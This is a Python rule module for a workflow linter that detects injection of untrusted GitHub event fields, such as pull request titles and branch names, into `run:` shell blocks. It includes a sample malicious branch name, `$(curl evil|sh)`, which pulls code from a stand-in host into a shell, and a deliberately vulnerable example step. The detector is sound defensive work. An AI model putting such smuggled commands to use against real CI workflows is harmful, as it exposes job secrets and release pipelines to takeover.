"""workflow-injection: text from strangers, pasted into shell."""

from __future__ import annotations

import re
from collections.abc import Iterator

from grind.rules.extract.workflow import EXPRESSION
from grind.rules.findings import ERROR, HIGH, LOW, NOTE, Hit, Rule
from grind.rules.units import View

_UNTRUSTED = re.compile(
    r"""github\.(
      head_ref
    | event\.(issue|pull_request|discussion|review|comment|review_comment)\.(title|body)
    | event\.pull_request\.(head\.(ref|label|repo\.(default_branch|description|homepage))|head_ref)
    | event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email))|head_repository\.description
        |pull_requests\S*head\.ref)
    | event\.(head_commit|commits(\[\d+\]|\.\*)?)\.(message|author\.(name|email)|committer\.(name|email))
    | event\.pages\S*page_name
    | event\.(commits|issue|comment|pull_request|review|discussion|head_commit)(?=\s*[)}|,])
    )""",
    re.VERBOSE | re.IGNORECASE,
)
_INPUTS = re.compile(r"\b(github\.event\.)?inputs\.[\w-]+|\bgithub\.ref_name\b", re.IGNORECASE)
_QUESTIONS = re.compile(
    r"\b(contains|startsWith|endsWith|hashFiles)\s*\([^()]*(\([^()]*\)[^()]*)*\)", re.IGNORECASE
)
_COMPARED = re.compile(r"[\w.\[\]*'-]+\s*[!=]=\s*('[^']*'|[\w.]+)|'[^']*'\s*[!=]=\s*[\w.]+")


def check(view: View) -> Iterator[Hit]:
    """Untrusted expressions in `run:` and in the script input of github-script."""
    for unit in view.units:
        for hole in unit.fragment.holes:
            if hole.kind == "github" and unit.sender is None:
                found = _judge(hole.raw)
                if found is not None:
                    yield unit.hit("workflow-injection", (hole.start, hole.end), *found)
    if view.workflow is None:
        return
    for job in view.workflow.jobs:
        for step in job.steps:
            script = step.inputs.get("script")
            if script is None or not step.uses or "github-script" not in step.uses.value:
                continue
            for match in EXPRESSION.finditer(script.value):
                found = _judge(match.group())
                if found is None:
                    continue
                at = view.source.text.find(match.group(), script.offset)
                if at >= 0:
                    yield view.hit("workflow-injection", (at, at + len(match.group())), *found)


def _judge(expression: str) -> tuple[str, str, str] | None:
    rest = _COMPARED.sub(" ", _QUESTIONS.sub(" ", expression))
    found = _UNTRUSTED.search(rest)
    if found:
        return (
            f"`{found.group()}` is written by strangers and is pasted into the text before any shell reads "
            'it; give it to the step as `env:` and use `"$NAME"`',
            ERROR,
            HIGH,
        )
    mild = _INPUTS.search(rest)
    if mild:
        return (
            f"`{mild.group()}` is pasted into the text as code: whoever starts the run chooses it; give it "
            "to the step as `env:`",
            NOTE,
            LOW,
        )
    return None


RULE = Rule(
    id="workflow-injection",
    severity=ERROR,
    what="A `${{ }}` expression with text from outside stands inside a `run:` block.",
    why="It is pasted, not passed: a branch name like `$(curl evil|sh)` runs with the job's secrets.",
    seen="Titles of pull requests have been used to take over release workflows of well-known projects.",
    bad='run: echo "${{ github.event.pull_request.title }}"',
    good='env: {TITLE: "${{ github.event.pull_request.title }}"}\nrun: echo "$TITLE"',
    check=check,
)
